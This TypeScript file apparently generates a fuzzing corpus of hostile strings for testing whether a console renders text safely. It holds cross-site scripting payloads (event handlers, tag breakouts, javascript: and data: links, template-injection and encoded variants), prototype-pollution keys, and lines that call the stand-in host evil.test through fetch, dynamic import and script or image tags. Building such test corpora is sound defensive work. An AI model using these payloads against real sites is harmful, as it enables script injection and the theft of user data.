/**
 * Texts that try to be more than text once a page shows them: scripts, events, links, entities, templates, styles, odd
 * encodings and names that programs of JavaScript stumble over. Made of families, so that there are many.
 *
 * Each that could run something would set `globalThis.hacked`, open a dialog or ask a foreign host: the tests of the
 * console look for all three.
 */

const RUN = "globalThis.hacked=1";
const CALLS = [
  RUN,
  "alert(1)",
  "fetch('http://evil.test/')",
  "import" + "('http://evil.test/a.js')",
];

const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "video src=x",
  "audio src=x",
  "input autofocus",
]
  .concat([
    "details open",
    "marquee",
    "object data=x",
    "select autofocus",
    "math",
    "style",
    "a href=#x",
    "frameset",
    "keygen autofocus",
    "x id=x tabindex=1",
  ]);
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onstart",
  "onanimationend",
  "onmouseover",
  "onpointerenter",
  "onscrollend",
];

/** Elements with events: the product of both. */
function events(): string[] {
  return ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}="${RUN}">`));
}

/** What ends the place that a careless page would have put a text into. */
const BREAKS = ['"', "'", "`", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>"]
  .concat(["</title>", "*/", "\\", "\\'", '\\"', "${", "{{", "}}", "</noscript>", "\n"]);

function breaks(): string[] {
  return BREAKS.flatMap((end) => [
    `${end}<script>${RUN}</script>`,
    `${end} onmouseover=${RUN} x=`,
    `${end};${RUN};//`,
    `${end}<img src=x onerror=${RUN}>`,
  ]);
}

const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "vbscript:"]
  .concat([
    "data:text/html,",
    "data:text/html;base64,",
    "blob:",
    "javascript&colon;",
    "\u0001javascript:",
  ]);

function links(): string[] {
  return SCHEMES.flatMap((scheme) =>
    CALLS.flatMap((call) => [`${scheme}${call}`, `<a href="${scheme}${call}">x</a>`])
  );
}

const TEMPLATES = [
  "{{X}}",
  "${X}",
  "<%= X %>",
  "#{X}",
  "{%X%}",
  "[[X]]",
  "{{constructor.constructor('X')()}}",
]
  .concat(["{{$on.constructor('X')()}}", "<template>X</template>", "<x-y>X</x-y>"]);

function templates(): string[] {
  return TEMPLATES.flatMap((template) => CALLS.map((call) => template.replace("X", call)));
}

/** Ways to write `<`, `>` and quotes that something between could decode. */
function encodings(): string[] {
  const texts = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `"><svg onload=${RUN}>`];
  const ways: ((text: string) => string)[] = [
    (text) => encodeURIComponent(text),
    (text) => encodeURIComponent(encodeURIComponent(text)),
    (text) => text.replace(/[<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`),
    (text) => text.replace(/[<>"]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
    (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
    (text) => text.replaceAll("<", "\\x3c"),
    (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
    (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
    (text) => btoa(text),
    (text) => text.toUpperCase(),
    (text) => text.replace("script", "scr\u0000ipt"),
    (text) => text.replace(" ", "/"),
    (text) => `\ufeff${text}`,
    (text) => `\u202e${text}\u202c`,
  ];
  return texts.flatMap((text) => ways.map((way) => way(text)));
}

/** Styles and elements that ask somebody else. */
function requests(): string[] {
  const urls = [
    "http://evil.test/x",
    "//evil.test/x",
    "ws://evil.test/x",
    "https://evil.test/x.svg#a",
  ];
  const forms = [
    "<img src=U>",
    "<link rel=stylesheet href=U>",
    "<script src=U></script>",
    "<base href=U>",
  ]
    .concat([
      "<style>@import 'U';</style>",
      '<div style="background:url(U)">',
      "<form action=U><button>x",
    ])
    .concat([
      "<meta http-equiv=refresh content='0;url=U'>",
      "<iframe src=U>",
      "<embed src=U>",
      "url(U)",
      "U",
    ])
    .concat(["<svg><use href=U /></svg>", "<input type=image src=U>", "<table background=U>"]);
  return urls.flatMap((url) => forms.map((form) => form.replace("U", url)));
}

/** Names that objects of JavaScript have already, numbers that are none, and texts without an end. */
function oddities(): string[] {
  const names = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "then",
  ]
    .concat([
      "null",
      "undefined",
      "NaN",
      "Infinity",
      "-0",
      "1e999",
      "0x10",
      "true",
      "[object Object]",
    ])
    .concat(["location", "document.cookie", "innerHTML", "length", "default", "async", "eval"]);
  const long = ["<", ">", "&", '"', "a", "\u0301", "👩‍👩‍👧"].map((sign) => sign.repeat(300));
  const spaces = ["\u00a0", "\u200b", "\u2028", "\u2029", "\r\n", "\t", "  "].map((space) =>
    `a${space}b`
  );
  return [...names, ...names.map((name) => `{"${name}":{"hacked":1}}`), ...long, ...spaces];
}

/** All of them, no two alike. */
export function hostileTexts(): readonly string[] {
  const families = [events, breaks, links, templates, encodings, requests, oddities];
  return [...new Set(families.flatMap((family) => family()))];
}
